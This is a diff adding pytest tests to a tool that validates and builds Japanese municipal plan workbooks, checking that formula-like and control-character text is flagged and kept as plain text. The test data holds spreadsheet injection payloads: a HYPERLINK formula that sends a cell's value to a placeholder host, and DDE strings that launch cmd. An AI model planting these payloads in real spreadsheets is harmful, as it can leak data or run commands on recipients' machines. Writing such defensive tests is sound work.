@@ -408,3 +408,179 @@ def test_aggregate_over_the_whole_corpus(corpus_dir, tmp_path):
     for item in EXPECT:
         assert f"計画 {item}.xlsm" in text, item  # unreadable, or listed as a conflicting duplicate
     assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []
+
+
+# ---------------------------------------------------------------- issue 20: text is text
+
+HYPERLINK = '=HYPERLINK("http://example.invalid/?leak="&A1,"白井市")'
+DDE = "=cmd|' /C calc'!A0"
+TEXT_ATTACKS = {
+    "basic.department": HYPERLINK,
+    "promotion.detail": DDE,
+    "openings.detail": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "issuance_note": "+1+2",
+    "title": "-2+3",
+}
+
+
+def _hostile_text_plan(**extra: str) -> dict:
+    from test_rules import corrected_seed
+
+    raw = corrected_seed()
+    for path, text in {**TEXT_ATTACKS, **extra}.items():
+        obj = raw
+        *head, last = path.split(".")
+        for p in head:
+            obj = obj.setdefault(p, {})
+        obj[last] = text
+    return raw
+
+
+def _formula_cells(data: bytes) -> dict[tuple[str, str], str]:
+    import openpyxl
+
+    wb = openpyxl.load_workbook(io.BytesIO(data))
+    out = {}
+    for ws in wb.worksheets:
+        for row in ws.iter_rows():
+            for c in row:
+                if c.data_type == "f":
+                    out[(ws.title, c.coordinate)] = str(c.value)
+    return out
+
+
+def _texts(data: bytes) -> set[str]:
+    import openpyxl
+
+    wb = openpyxl.load_workbook(io.BytesIO(data))
+    return {c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.data_type == "s"}
+
+
+def test_formula_like_text_is_a_warning_with_the_cell_and_a_name_not_matching_the_code_an_error():
+    from kofu_xl.layout import layout_for
+    from kofu_xl.model import load_plan
+    from kofu_xl.rules import check_plan
+
+    raw = _hostile_text_plan(**{"basic.municipality": HYPERLINK})
+    plan, findings = check_plan(raw)
+    lay = layout_for(plan.parameters)
+    located = lay.locate_findings(findings)
+    formula = {f.path: f for f in located if f.rule == "formula-like-text"}
+    assert set(formula) == {*TEXT_ATTACKS, "basic.municipality"}
+    dept = formula["basic.department"]
+    assert dept.severity.value == "warning" and dept.sheet == "本表1-1" and dept.cell == lay.scalars["basic.department"].cell
+    assert "担当課名" in dept.message and "本表1-1!" in dept.message and "数式" in dept.message
+    mismatch = [f for f in located if f.rule == "name-code-mismatch"]
+    assert len(mismatch) == 1 and mismatch[0].severity.value == "error" and mismatch[0].expected == "白井市"
+    assert mismatch[0].cell == lay.scalars["basic.municipality"].cell and "122327" in mismatch[0].message
+    # plain names and full-width spellings pass; a wrong name or an unknown code does not
+    assert not [f for f in check_plan(_hostile_text_plan(**{"basic.municipality": "白井 市"}))[1] if f.rule == "name-code-mismatch"]
+    assert [f.expected for f in check_plan(_hostile_text_plan(**{"basic.municipality": "印西市"}))[1] if f.rule == "name-code-mismatch"] == ["白井市"]
+    unknown = _hostile_text_plan(**{"basic.dantai_code": "129992"})  # valid check digit, no such town
+    assert [f.path for f in check_plan(unknown)[1] if f.rule == "name-code-mismatch"] == ["basic.dantai_code"]
+    assert load_plan(raw)[0].basic.department == HYPERLINK  # kept as typed
+
+
+def test_no_text_becomes_a_formula_in_any_written_file(tmp_path):
+    """submit's package, build (the .xlsm), new and aggregate: the hostile texts read back as
+    text, and the only formulas are the builder's own (the same set as for a clean plan)."""
+    import openpyxl
+    from kofu_xl.build import build_sheets, build_xlsm
+    from kofu_xl.model import load_plan
+    from test_rules import corrected_seed
+
+    raw = _hostile_text_plan()
+    plan = load_plan(raw)[0]
+    # build: the formulas of the hostile plan's book are exactly those of the clean one
+    hostile_book = build_xlsm(plan)
+    clean = _formula_cells(build_xlsm(load_plan(corrected_seed())[0]))
+    formulas = _formula_cells(hostile_book)
+    assert set(formulas) == set(clean)
+    assert not [f for f in formulas.values() if "HYPERLINK" in f or "cmd" in f or "SUM(1+1)" in f]
+    assert set(TEXT_ATTACKS.values()) <= _texts(hostile_book)
+    # Excel's apostrophe flag keeps them text when a clerk edits the cell
+    wb = openpyxl.load_workbook(io.BytesIO(hostile_book))
+    from kofu_xl.layout import layout_for
+
+    s = layout_for(plan.parameters).scalars["basic.department"]
+    assert wb[s.sheet][s.cell].value == HYPERLINK and wb[s.sheet][s.cell].quotePrefix
+    # the values-only package: not one formula
+    assert _formula_cells(build_sheets(plan, values_only=True).xlsx) == {}
+    # submit end to end: the warnings do not stop it; the package holds the texts as text
+    book = tmp_path / "計画.xlsm"
+    book.write_bytes(hostile_book)
+    r = run("submit", str(book), "--out", str(tmp_path / "提出"), cwd=tmp_path)
+    assert r.returncode == 0, (r.stdout, r.stderr[-800:])
+    package = next((tmp_path / "提出").glob("*.xlsx"))
+    assert _formula_cells(package.read_bytes()) == {}
+    assert set(TEXT_ATTACKS.values()) <= _texts(package.read_bytes())
+    # the submitted workbook: 検証結果 carries the warnings as text, still no new formula
+    assert set(_formula_cells(book.read_bytes())) == set(clean)
+    assert any("formula-like-text" == t for t in _texts(book.read_bytes()))
+    # aggregate over the package: a text table
+    out = tmp_path / "集計.xlsx"
+    r = run("aggregate", str(tmp_path / "提出"), "--out", str(out), cwd=tmp_path)
+    assert r.returncode == 0, r.stderr[-800:]
+    assert _formula_cells(out.read_bytes()) == {}
+
+
+def test_build_and_check_with_a_formula_in_the_name(tmp_path):
+    """The reported case: 市町村名 =HYPERLINK(…) in a plan: check says where (error: not the
+    code's name), build writes it as text (was exit 3)."""
+    plan = tmp_path / "計画.json"
+    plan.write_text(json.dumps(_hostile_text_plan(**{"basic.municipality": HYPERLINK, "basic.phone": DDE}), ensure_ascii=False), encoding="utf-8")
+    r = run("check", str(plan), "--json", cwd=tmp_path)
+    assert r.returncode == 1, r.stderr[-500:]
+    rules = {(f["rule"], f["path"]) for f in json.loads(r.stdout)["findings"]}
+    assert {("name-code-mismatch", "basic.municipality"), ("formula-like-text", "basic.municipality"), ("formula-like-text", "basic.phone"), ("invalid-phone", "basic.phone")} <= rules
+    out = tmp_path / "out.xlsm"
+    r = run("build", "--plan", str(plan), "--out", str(out), cwd=tmp_path)
+    assert r.returncode == 0, r.stderr[-500:]
+    assert HYPERLINK in _texts(out.read_bytes()) and DDE in _texts(out.read_bytes())
+    r = run("check", str(out), cwd=tmp_path)
+    assert r.returncode == 1 and "本表1-1!" in r.stdout and "name-code-mismatch" in r.stdout
+
+
+# ---------------------------------------------------------------- issue 20: control characters
+
+
+@pytest.mark.parametrize("char", ["\x00", "\x07", "\x1b", "\x7f"])
+def test_control_characters_are_a_finding_naming_the_cell(char, tmp_path):
+    """NUL/BEL/ESC/DEL in a text input: check names the cell, submit refuses with the
+    finding (exit 1), build writes the book without them (never exit 3)."""
+    from kofu_xl.build import build_xlsm
+    from kofu_xl.layout import layout_for
+    from kofu_xl.model import load_plan
+    from test_rules import corrected_seed
+
+    base = build_xlsm(load_plan(corrected_seed())[0])
+    s = layout_for(load_plan(corrected_seed())[0].parameters).scalars["basic.department"]
+    assert s.sheet == "本表1-1"
+    # how OOXML stores a control character in a string: _xHHHH_ (Excel writes it so; calamine decodes it)
+    cell_xml = f'<c r="{s.cell}" t="inlineStr"><is><t>市民_x{ord(char):04X}_課</t></is></c>'
+    part = S11
+    book = tmp_path / "計画.xlsm"
+    book.write_bytes(_rezip(base, _in_sheet(part, lambda d: _cell(d, s.cell, cell_xml.encode()))))
+    r = run("check", str(book), "--json", cwd=tmp_path)
+    assert r.returncode == 1, (r.stdout[-500:], r.stderr[-500:])
+    found = [f for f in json.loads(r.stdout)["findings"] if f["rule"] == "control-characters"]
+    assert found and found[0]["cell"] == s.cell and found[0]["sheet"] == "本表1-1" and "担当課名" in found[0]["message"]
+    assert f"U+{ord(char):04X}" in found[0]["message"]
+    r = run("submit", str(book), "--out", str(tmp_path / "提出"), cwd=tmp_path)
+    assert r.returncode == 1 and "Traceback" not in r.stderr, r.stderr[-500:]
+    assert not (tmp_path / "提出").exists()
+    r = run("build", "--plan", str(book), "--out", str(tmp_path / "b.xlsm"), cwd=tmp_path)
+    assert r.returncode == 0 and "Traceback" not in r.stderr, r.stderr[-500:]
+    assert "市民課" in _texts((tmp_path / "b.xlsm").read_bytes())
+
+
+def test_control_characters_in_json_plans(tmp_path):
+    raw = _hostile_text_plan(**{"basic.department": "市民\x1b[31m課", "promotion.detail": "a\x00b"})
+    plan = tmp_path / "計画.json"
+    plan.write_text(json.dumps(raw, ensure_ascii=False), encoding="utf-8")
+    r = run("check", str(plan), "--json", cwd=tmp_path)
+    assert r.returncode == 1
+    paths = {f["path"] for f in json.loads(r.stdout)["findings"] if f["rule"] == "control-characters"}
+    assert paths == {"basic.department", "promotion.detail"}
+    r = run("build", "--plan", str(plan), "--out", str(tmp_path / "b.xlsm"), cwd=tmp_path)
+    assert r.returncode == 0, r.stderr[-500:]
